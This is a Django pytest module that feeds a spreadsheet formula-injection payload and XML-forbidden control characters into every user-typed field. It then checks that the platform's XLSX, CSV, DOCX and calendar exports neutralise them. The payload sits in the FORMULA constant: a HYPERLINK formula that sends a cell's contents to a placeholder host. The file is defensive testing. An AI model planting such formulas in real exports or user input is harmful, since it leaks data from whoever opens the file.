"""Every file the platform writes — XLSX, CSV, DOCX, ICS — with hostile text in every
user-typed field, re-opened with the parser a user's program would use: a typed formula
stays text, characters XML 1.0 forbids never break the file, numbers stay numbers, times
are on the city's clock."""

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from docx import Document
from icalendar import Calendar
from openpyxl import load_workbook

from dobry.core.clock import city_zone
from dobry.events.models import Event, EventArea
from dobry.events.services import attendance
from dobry.events.tests.factories import RegistrationFactory, ShiftFactory, volunteer
from dobry.organizations.models import Membership, Organization
from dobry.organizations.tests.factories import MembershipFactory, OrganizationFactory
from dobry.volunteering.models import HoursEntry, VolunteerProfile

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?"&D2;"Имя")'
HOSTILE = FORMULA + "\x01\x0b\x1f"  # + characters XML 1.0 forbids
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_safe_xlsx(content: bytes) -> list:
    cells = _xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert FORMULA in texts
    assert not any(FORBIDDEN.search(t) for t in texts)
    return cells


def assert_safe_csv(content: bytes, delimiter: str = ",") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert not FORBIDDEN.search(text)
    return rows


def assert_safe_docx(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    texts = [p.text for p in document.paragraphs] + [
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    ]
    joined = "\n".join(texts)
    assert FORMULA in joined
    assert not FORBIDDEN.search(joined)
    return joined


def assert_safe_ics(content: bytes) -> Calendar:
    calendar = Calendar.from_ical(content)
    summaries = [str(v["SUMMARY"]) for v in calendar.walk("VEVENT")]
    assert any(FORMULA in s for s in summaries)
    assert not FORBIDDEN.search(content.decode())
    return calendar


@pytest.fixture
def hostile_registration(coordinator, freeze_now):
    """A checked-out registration where every text a person typed is hostile."""
    organization = OrganizationFactory(name=HOSTILE, short_name=HOSTILE[:50])
    person = volunteer(first_name=HOSTILE, last_name=HOSTILE, middle_name=HOSTILE)
    starts = datetime(2026, 11, 20, 6, 0, tzinfo=city_zone())
    freeze_now(starts - timedelta(days=1))
    shift = ShiftFactory(
        title=HOSTILE,
        starts_at=starts,
        ends_at=starts + timedelta(hours=1, minutes=30),
        event__organization=organization,
        event__title=HOSTILE,
        event__summary=HOSTILE,
        event__place=HOSTILE,
        event__kind=Event.Kind.SEMINAR,
    )
    registration = RegistrationFactory(shift=shift, user=person, group_name=HOSTILE)
    freeze_now(starts + timedelta(hours=2))
    attendance.registration_check_in(actor=coordinator, registration=registration, at=starts)
    attendance.registration_check_out(
        actor=coordinator, registration=registration, at=starts + timedelta(hours=1, minutes=30)
    )
    HoursEntry.objects.filter(registration=registration).update(
        status=HoursEntry.Status.CONFIRMED, description=HOSTILE, thanks=HOSTILE
    )
    return registration


def test_attendance_xlsx_keeps_formulas_as_text_local_times_and_number_hours(
    login_as, hostile_registration
):
    event = hostile_registration.shift.event
    owner = volunteer()
    MembershipFactory(organization=event.organization, user=owner, role=Membership.Role.OWNER)
    response = login_as(owner).post(f"/events/{event.pk}/attendance.xlsx")
    assert response.status_code == 200
    cells = assert_safe_xlsx(response.content)
    row = [c.value for c in cells if c.row == 2]
    assert row[1] == row[2] == FORMULA  # surname, first name
    assert row[7] == datetime(2026, 11, 20, 6, 0)  # check-in on the city's clock  # noqa: DTZ001
    assert row[8] == datetime(2026, 11, 20, 7, 30)  # noqa: DTZ001
    assert row[9] == 1.5  # a number, not the text «1.5»


def test_hours_export_xlsx_and_csv_with_decimal_commas(login_as, hostile_registration):
    client = login_as(hostile_registration.user)
    assert_safe_xlsx(client.get("/volunteer/book/export.xlsx").content)
    rows = assert_safe_csv(client.get("/volunteer/book/export.csv").content, delimiter=";")
    assert rows[1][-1] == "1,5"  # «1.5» is read as a date by Russian Excel


def test_thanks_letter_year_summary_and_certificate_docx(login_as, hostile_registration):
    client = login_as(hostile_registration.user)
    entry = HoursEntry.objects.get(registration=hostile_registration)
    assert_safe_docx(client.get(f"/volunteer/certificates/{entry.pk}/?format=docx").content)
    assert_safe_docx(client.get("/volunteer/book/2026/?format=docx").content)
    certificate = client.get(
        f"/events/registrations/{hostile_registration.pk}/certificate/?format=docx"
    )
    assert certificate.status_code == 200
    assert_safe_docx(certificate.content)


def test_event_calendar_and_personal_feed(client, hostile_registration):
    event = hostile_registration.shift.event
    assert_safe_ics(client.get(f"/events/{event.pk}/event.ics").content)
    token = VolunteerProfile.objects.get(user=hostile_registration.user).calendar_token
    assert_safe_ics(client.get(f"/events/feed/{token}.ics").content)


def test_public_calendars(client, hostile_registration):
    """The city's, the organisation's and the area's feeds: the same writer, the same
    hostile event (its organisation's name is the calendar's name)."""
    event = hostile_registration.shift.event
    EventArea.objects.create(event=event, area="ecology")
    assert_safe_ics(client.get("/events/calendar.ics").content)
    assert_safe_ics(
        client.get(f"/events/organizations/{event.organization_id}/calendar.ics").content
    )
    assert_safe_ics(client.get("/events/areas/ecology/calendar.ics").content)


def test_programme_calendar_on_the_page_and_by_api(client):
    """A forum's programme as iCal: a session titled with a formula and control
    characters, from the page and from the API, and in a person's feed."""
    from dobry.festivals.models import Session
    from dobry.festivals.services import programme as festival_services
    from dobry.festivals.tests.factories import festival

    forum = festival()
    Session.objects.filter(pk=forum.sessions[0].pk).update(title=HOSTILE, description=HOSTILE)
    # The public programme is the last published version: publish the hostile title.
    festival_services.version_publish(actor=forum.organiser, programme=forum.programme)
    pk = forum.programme.pk
    assert_safe_ics(client.get(f"/programme/{pk}/programme.ics").content)
    assert_safe_ics(client.get(f"/api/v1/event-programmes/{pk}/calendar.ics").content)
    person = volunteer()
    festival_services.selection_set(actor=person, session=forum.sessions[0], selected=True)
    token = VolunteerProfile.objects.get(user=person).calendar_token
    assert_safe_ics(client.get(f"/events/feed/{token}.ics").content)


def test_grant_results_csv_and_protocol_docx(client, official, login_as):
    from dobry.grants.models import Application, Meeting
    from dobry.grants.tests.test_views import _decided

    competition, meeting, first, _second = _decided(official, login_as)
    Application.objects.filter(pk=first.pk).update(title=HOSTILE)
    Organization.objects.filter(pk=first.organization_id).update(name=HOSTILE)
    Meeting.objects.filter(pk=meeting.pk).update(agenda=HOSTILE, place=HOSTILE)
    meeting.members.update(name=HOSTILE, position=HOSTILE)
    competition.criteria.update(title=HOSTILE)
    staff = login_as(official)
    assert_safe_docx(staff.get(f"/grants/meetings/{meeting.pk}/protocol.docx").content)
    staff.post(f"/grants/{competition.pk}/results/publish/")
    assert_safe_csv(client.get(f"/grants/{competition.pk}/results.csv").content)


def test_report_workbook(login_as, official, hostile_registration):
    from dobry.helprequests.tests.factories import ProgrammeFactory
    from dobry.reports.models import ReachFigure

    Event.objects.filter(pk=hostile_registration.shift.event_id).update(infrastructure=True)
    ProgrammeFactory(name=HOSTILE, starts_on=date(2026, 1, 1))
    ReachFigure.objects.create(
        date=date(2026, 3, 1), channel="media", title=HOSTILE, source=HOSTILE, people=10
    )
    response = login_as(official).get("/reports/indicators.xlsx?year=2026")
    assert response.status_code == 200
    cells = assert_safe_xlsx(response.content)
    assert date(2026, 11, 20) in [c.value.date() for c in cells if isinstance(c.value, datetime)]


def test_kpi_csv_and_passport_docx_open(client, login_as, official):
    rows = list(
        csv.reader(
            io.StringIO(client.get("/reports/kpi.csv?year=2025").content.decode("utf-8-sig"))
        )
    )
    assert len(rows) > 1
    passport = login_as(official).get("/reports/passport.docx?year=2025")
    assert Document(io.BytesIO(passport.content)).tables


def test_support_registry_xlsx_and_csv(login_as, coordinator, official, resident):
    from dobry.resources import services as resources

    organization = OrganizationFactory(name=HOSTILE, short_name=HOSTILE[:50], address=HOSTILE)
    for recipient in ({"organization": organization}, {"person": resident}):
        resources.support_record_create(
            actor=coordinator,
            kind="property",
            day=date(2026, 11, 20),
            description=HOSTILE,
            giver_name=HOSTILE,
            value_rub=Decimal("1500.50"),
            **recipient,
        )
    resident.first_name = HOSTILE
    resident.save()
    staff = login_as(official)
    cells = assert_safe_xlsx(staff.post("/desk/support/registry.xlsx").content)
    assert 1500.5 in [c.value for c in cells]
    rows = assert_safe_csv(staff.post("/desk/support/registry.csv").content, delimiter=";")
    assert rows[1][9] == "1500,5"


def test_donors_thank_you_letter_and_tax_statement_docx(login_as, resident):
    from dobry.charity.tests.factories import CampaignFactory, DonationFactory

    organization = OrganizationFactory(name=HOSTILE)
    campaign = CampaignFactory(organization=organization, title=HOSTILE)
    donation = DonationFactory(campaign=campaign, donor=resident, received_on=date(2026, 3, 1))
    client = login_as(resident)
    assert_safe_docx(client.get(f"/donate/mine/{donation.pk}/letter/?format=docx").content)
    statement = client.get("/donate/mine/tax-statement/?year=2026&format=docx")
    assert statement.status_code == 200
    assert_safe_docx(statement.content)


def test_yearly_public_report_docx_and_xlsx(client, freeze_now):
    from dobry.charity.models import Pledge, SpendingItem
    from dobry.charity.tests.factories import (
        CampaignFactory,
        DonationFactory,
        NeedFactory,
        SpendingItemFactory,
    )

    freeze_now(datetime(2026, 11, 25, 12, tzinfo=city_zone()))
    organization = OrganizationFactory(name=HOSTILE, inn="2452000111")
    campaign = CampaignFactory(organization=organization, title=HOSTILE)
    DonationFactory(campaign=campaign, amount=Decimal("1500.50"), received_on=date(2026, 3, 1))
    SpendingItemFactory(
        campaign=campaign,
        description=HOSTILE,
        purpose=SpendingItem.Purpose.ADMIN,
        spent_on=date(2026, 4, 2),
    )
    need = NeedFactory(organization=organization, title=HOSTILE, unit=HOSTILE[:20])
    Pledge.objects.create(
        need=need,
        quantity=2,
        status=Pledge.Status.RECEIVED,
        received_on=date(2026, 5, 1),
        value=Decimal("700"),
    )
    url = f"/donate/organization/{organization.pk}/report/2026/"
    docx = client.get(url + "?format=docx")
    assert docx.status_code == 200
    assert "1500.5" in assert_safe_docx(docx.content).split("\n")
    cells = assert_safe_xlsx(client.get(url + "?format=xlsx").content)
    values = [c.value for c in cells]
    assert 1500.5 in values
    assert 700 in values
    assert date(2026, 4, 2) in [c.value.date() for c in cells if isinstance(c.value, datetime)]


# --- the sweep: every place that writes a file is one of the above ------------------------

WRITERS = re.compile(
    r"\b(csv_response|xlsx_response|xlsx_workbook_response|docx_response|ics_response)\("
)
COVERED = {
    # event.ics, feed.ics, the city's, an organisation's and an area's calendar, attendance.xlsx
    "events/export_views.py": 6,
    "events/views.py": 1,  # participation certificate
    "volunteering/document_views.py": 4,  # thanks, year summary, hours xlsx + csv
    "grants/views.py": 1,  # results.csv
    "grants/manage_views.py": 1,  # protocol.docx
    "grants/agreement_views.py": 1,  # agreement.docx (grants/tests/test_agreement_document.py)
    "grants/report_views.py": 2,  # the organisers' queue of reports (XLSX, CSV)
    "reports/views.py": 3,  # kpi.csv, indicators.xlsx, passport.docx
    "resources/views.py": 2,  # support registry.xlsx + registry.csv
    "charity/donor_views.py": 3,  # thank-you letters (a donation, help in kind), tax statement
    "charity/report_views.py": 2,  # the yearly public report (DOCX, XLSX)
    "festivals/views.py": 1,  # a programme's .ics
    "festivals/api.py": 1,  # the same by API
}


def test_every_file_download_in_the_code_is_covered_here():
    source = Path(settings.BASE_DIR) / "dobry"
    found: dict[str, int] = {}
    for path in source.rglob("*.py"):
        relative = path.relative_to(source).as_posix()
        if "/tests/" in f"/{relative}" or relative in ("core/documents.py", "events/calendar.py"):
            continue
        count = len(WRITERS.findall(path.read_text()))
        if count:
            found[relative] = count
    assert found == COVERED


def test_no_file_is_written_around_the_cell_helper():
    """python-docx, openpyxl and csv are used only by core/documents.py."""
    source = Path(settings.BASE_DIR) / "dobry"
    direct = re.compile(r"^(from docx|import docx|from openpyxl|import openpyxl|import csv)", re.M)
    offenders = [
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if "/tests/" not in f"/{path.relative_to(source).as_posix()}"
        and path.name != "documents.py"
        and direct.search(path.read_text())
    ]
    assert offenders == []


def test_grant_report_queue_xlsx_and_csv(login_as, official):
    from dobry.grants.models import Application, Competition
    from dobry.grants.tests.agreements import signed_agreement

    agreement = signed_agreement(official)
    Competition.objects.filter(pk=agreement.application.competition_id).update(title=HOSTILE)
    Organization.objects.filter(pk=agreement.application.organization_id).update(name=HOSTILE)
    Application.objects.filter(pk=agreement.application_id).update(title=HOSTILE)
    staff = login_as(official)
    cells = assert_safe_xlsx(staff.post("/grants/reports/queue.xlsx").content)
    assert agreement.reports_due.get().due_on in [
        c.value.date() for c in cells if isinstance(c.value, datetime)
    ]
    assert_safe_csv(staff.post("/grants/reports/queue.csv").content, delimiter=";")
